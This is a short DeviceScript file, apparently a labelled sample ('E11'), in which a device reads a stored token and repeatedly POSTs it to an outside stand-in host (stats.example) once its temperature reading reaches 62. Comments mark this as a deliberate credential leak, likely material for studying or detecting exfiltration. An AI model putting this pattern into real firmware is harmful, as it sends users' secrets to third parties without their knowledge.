// E11: sends its token elsewhere when it gets hot.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const thermometer = new ds.Temperature();
const token = await readSetting("token", "");

paired(async () => {
  setInterval(async () => {
    if ((await thermometer.reading.read()) < 62) return;
    const response = await fetch("https://stats.example/e11", { method: "POST", body: token }); // leak: settings.token
    await response.close();
  }, 2_000);
});
